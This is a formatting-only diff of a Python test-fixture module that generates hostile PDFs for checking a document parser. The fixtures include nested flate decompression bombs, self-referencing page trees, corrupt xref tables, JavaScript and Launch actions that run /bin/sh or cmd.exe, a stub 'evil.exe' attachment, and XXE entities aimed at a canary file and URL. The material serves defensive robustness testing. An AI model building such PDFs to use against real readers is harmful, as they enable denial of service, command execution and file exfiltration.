@@ -1,4 +1,6 @@
-"""PDF files: streams that unpack without end, objects that contain themselves, and actions nobody may carry out."""
+"""PDF files: streams that unpack without end, objects that contain themselves, and
+actions nobody may carry out.
+"""
 
 from __future__ import annotations
 
@@ -21,21 +23,31 @@ def _streams() -> list[HostileFile]:
     single = zlibbed(b" " * 10**6, 500)
     double = zlib.compress(zlibbed(b" " * 10**6, 20_000), 9)
     triple = zlib.compress(zlib.compress(zlibbed(b"\0" * 10**6, 20_000), 9), 9)
-    form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << %s >> /Font << /F1 5 0 R >> >>"
+    form = (
+        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << %s >> "
+        b"/Font << /F1 5 0 R >> >>"
+    )
     doubling = {
-        10 + i: stream(b"/X Do " * 10 if i < 9 else shown(b"ha"), form % (b"/X %d 0 R" % (11 + i) if i < 9 else b""))
+        10 + i: stream(
+            b"/X Do " * 10 if i < 9 else shown(b"ha"),
+            form % (b"/X %d 0 R" % (11 + i) if i < 9 else b""),
+        )
         for i in range(10)
     }
     cmap = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap "
     cmap += b"1 begincodespacerange <0000> <FFFF> endcodespacerange "
     cmap += b"100 beginbfrange " + b"<0000> <FFFF> <0000> " * 2000 + b"endbfrange endcmap end end"
-    composite = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R"
+    composite = (
+        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R"
+    )
     composite += b" /DescendantFonts [7 0 R] >>"
     descendant = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A"
     descendant += b" /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >> >>"
     flate = b"/Filter /FlateDecode"
     return [
-        HostileFile("pdf/flate-bomb.pdf", build({4: stream(single, flate)}), "no_text_layer|parser_crash"),
+        HostileFile(
+            "pdf/flate-bomb.pdf", build({4: stream(single, flate)}), "no_text_layer|parser_crash"
+        ),
         HostileFile(
             "pdf/double-flate-bomb.pdf",
             build({4: stream(double, b"/Filter [/FlateDecode /FlateDecode]")}),
@@ -46,7 +58,9 @@ def _streams() -> list[HostileFile]:
             build({4: stream(triple, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")}),
             "parser_crash|parser_deadline",
         ),
-        HostileFile("pdf/operators.pdf", build({4: stream(zlibbed(megabyte, 10), flate)}), "no_text_layer"),
+        HostileFile(
+            "pdf/operators.pdf", build({4: stream(zlibbed(megabyte, 10), flate)}), "no_text_layer"
+        ),
         HostileFile(
             "pdf/contents-5-times.pdf",
             build({3: page(b"[" + b"4 0 R " * 5 + b"]"), 4: stream(zlibbed(megabyte, 1), flate)}),
@@ -82,14 +96,25 @@ def _streams() -> list[HostileFile]:
         ),
         HostileFile(
             "pdf/billion-xobjects.pdf",
-            build({3: page(resources=b"/XObject << /X 10 0 R >>"), 4: stream(b"/X Do"), **doubling}),
+            build(
+                {3: page(resources=b"/XObject << /X 10 0 R >>"), 4: stream(b"/X Do"), **doubling}
+            ),
             "parser_deadline|parser_crash|parser_memory",
         ),
-        HostileFile("pdf/deep-array.pdf", build({4: stream(b"[" * 10**6 + shown(b"Deep"))}), "no_text_layer"),
+        HostileFile(
+            "pdf/deep-array.pdf", build({4: stream(b"[" * 10**6 + shown(b"Deep"))}), "no_text_layer"
+        ),
         HostileFile("pdf/deep-object.pdf", build({6: b"[" * 10**6}), holds="Hello"),
         HostileFile(
             "pdf/character-map.pdf",
-            build({4: stream(b"BT /F1 12 Tf <004100420043> Tj ET"), 5: composite, 6: stream(cmap), 7: descendant}),
+            build(
+                {
+                    4: stream(b"BT /F1 12 Tf <004100420043> Tj ET"),
+                    5: composite,
+                    6: stream(cmap),
+                    7: descendant,
+                }
+            ),
             holds="ABC",
         ),
         HostileFile(
@@ -110,24 +135,40 @@ def _streams() -> list[HostileFile]:
 def _trees() -> list[HostileFile]:
     pages = b"<< /Type /Pages /Kids [%s] /Count %d >>"
     chain = {
-        10 + i: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (11 + i, 9 + i) for i in range(5000)
+        10 + i: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (11 + i, 9 + i)
+        for i in range(5000)
     }
     own = stream(b"6 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")
     return [
-        HostileFile("pdf/page-tree-in-a-ring.pdf", build({2: pages % (b"2 0 R", 1)}), holds="Hello"),
+        HostileFile(
+            "pdf/page-tree-in-a-ring.pdf", build({2: pages % (b"2 0 R", 1)}), holds="Hello"
+        ),
         HostileFile(
             "pdf/pages-in-a-ring.pdf",
             build(
-                {2: pages % (b"3 0 R 6 0 R", 2), 6: b"<< /Type /Pages /Kids [2 0 R 6 0 R] /Count 1 /Parent 6 0 R >>"}
+                {
+                    2: pages % (b"3 0 R 6 0 R", 2),
+                    6: b"<< /Type /Pages /Kids [2 0 R 6 0 R] /Count 1 /Parent 6 0 R >>",
+                }
             ),
             holds="Hello",
         ),
         HostileFile(
-            "pdf/page-tree-5000-deep.pdf", build({2: pages % (b"10 0 R", 1), **chain, 5010: page()}), "corrupt"
+            "pdf/page-tree-5000-deep.pdf",
+            build({2: pages % (b"10 0 R", 1), **chain, 5010: page()}),
+            "corrupt",
         ),
-        HostileFile("pdf/claims-1000000-pages.pdf", build({2: pages % (b"3 0 R", 10**6)}), holds="Hello"),
-        HostileFile("pdf/300000-pages.pdf", build({2: pages % (b"3 0 R " * 300_000, 300_000)}), holds="Hello"),
-        HostileFile("pdf/claims-minus-pages.pdf", build({2: pages % (b"3 0 R", -5)}), holds="Hello"),
+        HostileFile(
+            "pdf/claims-1000000-pages.pdf", build({2: pages % (b"3 0 R", 10**6)}), holds="Hello"
+        ),
+        HostileFile(
+            "pdf/300000-pages.pdf",
+            build({2: pages % (b"3 0 R " * 300_000, 300_000)}),
+            holds="Hello",
+        ),
+        HostileFile(
+            "pdf/claims-minus-pages.pdf", build({2: pages % (b"3 0 R", -5)}), holds="Hello"
+        ),
         HostileFile("pdf/no-pages.pdf", build({2: pages % (b"", 0), 3: b"null"}), "corrupt"),
         HostileFile("pdf/page-outside-the-tree.pdf", build({2: pages % (b"", 0)}), holds="Hello"),
         HostileFile(
@@ -136,8 +177,10 @@ def _trees() -> list[HostileFile]:
                 {
                     1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
                     3: page(more=b"/Annots [6 0 R 7 0 R]"),
-                    6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V 6 0 R /Kids [7 0 R] /Parent 7 0 R >>",
-                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (b) /Kids [6 0 R] /Parent 6 0 R >>",
+                    6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V 6 0 R /Kids [7 0 R] "
+                    b"/Parent 7 0 R >>",
+                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (b) /Kids [6 0 R] /Parent 6 "
+                    b"0 R >>",
                 }
             ),
             holds="Hello",
@@ -178,9 +221,13 @@ def _broken() -> list[HostileFile]:
     start = len(build({}, xref=b"")) - len(b"startxref\n%d\n%%%%EOF\n" % 700)
     return [
         HostileFile(
-            "pdf/junk-before-header.pdf", one_page(b"After junk").join([b"junk\n" * 500, b""]), holds="After junk"
+            "pdf/junk-before-header.pdf",
+            one_page(b"After junk").join([b"junk\n" * 500, b""]),
+            holds="After junk",
         ),
-        HostileFile("pdf/megabytes-of-junk.pdf", b"junk\n" * 230_000 + good, holds="Still readable"),
+        HostileFile(
+            "pdf/megabytes-of-junk.pdf", b"junk\n" * 230_000 + good, holds="Still readable"
+        ),
         HostileFile("pdf/cut-table.pdf", good[: at + 30], "corrupt"),
         HostileFile("pdf/no-table.pdf", good[:at], "corrupt"),
         HostileFile("pdf/cut-in-half.pdf", good[: at // 2], "corrupt"),
@@ -191,7 +238,9 @@ def _broken() -> list[HostileFile]:
         ),
         HostileFile("pdf/table-before-itself.pdf", build({}, xref=loop % start), holds="Hello"),
         HostileFile(
-            "pdf/table-of-2-billion.pdf", good.replace(b"xref\n0 1\n", b"xref\n0 2147483647\n"), holds="Still readable"
+            "pdf/table-of-2-billion.pdf",
+            good.replace(b"xref\n0 1\n", b"xref\n0 2147483647\n"),
+            holds="Still readable",
         ),
         HostileFile(
             "pdf/table-stream-of-2-billion.pdf",
@@ -200,7 +249,8 @@ def _broken() -> list[HostileFile]:
                 xref=b"9 0 obj\n"
                 + stream(
                     zlib.compress(bytes(50)),
-                    b"/Type /XRef /W [1 8 8] /Size 2147483647 /Index [0 2147483647] /Root 1 0 R /Filter /FlateDecode",
+                    b"/Type /XRef /W [1 8 8] /Size 2147483647 /Index [0 2147483647] /Root 1 0 R "
+                    b"/Filter /FlateDecode",
                 )
                 + b"\nendobj\n",
             ),
@@ -211,7 +261,9 @@ def _broken() -> list[HostileFile]:
         HostileFile("pdf/headers.pdf", b"%PDF-1.7\n" * 20_000, "corrupt"),
         HostileFile("pdf/encrypted.pdf", _encrypted(), "encrypted"),
         HostileFile(
-            "pdf/unknown-encryption.pdf", build({}, b"/Encrypt << /Filter /Evil /V 99 >> /ID [(a) (a)]"), "encrypted"
+            "pdf/unknown-encryption.pdf",
+            build({}, b"/Encrypt << /Filter /Evil /V 99 >> /ID [(a) (a)]"),
+            "encrypted",
         ),
     ]
 
@@ -227,8 +279,10 @@ def _encrypted() -> bytes:
 def _actions(canary: Canary) -> list[HostileFile]:
     url, file = canary.url.encode(), str(canary.file).encode()
     actions = {
-        "javascript": b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); this.submitForm\\('%s'\\);) >>" % (url, url),
-        "launch": b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) >> /Win << /F (cmd.exe) /P (/c calc) >> >>",
+        "javascript": b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); "
+        b"this.submitForm\\('%s'\\);) >>" % (url, url),
+        "launch": b"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) >> /Win << /F (cmd.exe) /P "
+        b"(/c calc) >> >>",
         "uri": b"<< /S /URI /URI (%s) >>" % url,
         "submit": b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % url,
         "other-file": b"<< /S /GoToR /F (%s) /D [0 /Fit] >>" % file,
@@ -239,11 +293,13 @@ def _actions(canary: Canary) -> list[HostileFile]:
             f"pdf/action-{name}.pdf",
             build(
                 {
-                    1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript "
+                    1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> "
+                    b"/Names << /JavaScript "
                     b"<< /Names [(a) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] >> >>",
                     3: page(more=b"/AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R]"),
                     6: action,
-                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (Filled) /Rect [0 0 99 9] /A 6 0 R "
+                    7: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (Filled) /Rect [0 0 "
+                    b"99 9] /A 6 0 R "
                     b"/AA << /K 6 0 R /F 6 0 R /V 6 0 R /C 6 0 R >> >>",
                 }
             ),
@@ -258,7 +314,8 @@ def _actions(canary: Canary) -> list[HostileFile]:
             "pdf/embedded-file.pdf",
             build(
                 {
-                    1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> >>",
+                    1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names "
+                    b"[(evil.exe) 6 0 R] >> >> >>",
                     6: b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>",
                     7: stream(b"MZ" + bytes(1000), b"/Type /EmbeddedFile"),
                 }
@@ -293,7 +350,8 @@ def _actions(canary: Canary) -> list[HostileFile]:
                 {
                     1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>",
                     6: stream(
-                        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><xdp:xdp xmlns:xdp='
+                        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><xdp:xdp '
+                        b"xmlns:xdp="
                         b'"http://ns.adobe.com/xdp/">&e;</xdp:xdp>' % canary.file.as_uri().encode()
                     ),
                 }
@@ -306,7 +364,8 @@ def _actions(canary: Canary) -> list[HostileFile]:
                 {
                     1: b"<< /Type /Catalog /Pages 2 0 R /Metadata 6 0 R >>",
                     6: stream(
-                        b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><x>&e;</x>' % url, b"/Type /Metadata /Subtype /XML"
+                        b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><x>&e;</x>' % url,
+                        b"/Type /Metadata /Subtype /XML",
                     ),
                 }
             ),
@@ -317,7 +376,10 @@ def _actions(canary: Canary) -> list[HostileFile]:
 
 def _metadata() -> list[HostileFile]:
     def titled(name: str, title: bytes, expected: str | None) -> HostileFile:
-        data = build({6: b"<< /Title %s /Author [1 2] /CreationDate << >> /Producer 6 0 R >>" % title}, b"/Info 6 0 R")
+        data = build(
+            {6: b"<< /Title %s /Author [1 2] /CreationDate << >> /Producer 6 0 R >>" % title},
+            b"/Info 6 0 R",
+        )
         return HostileFile(f"pdf/title-{name}.pdf", data, holds="Hello", title=expected)
 
     return [
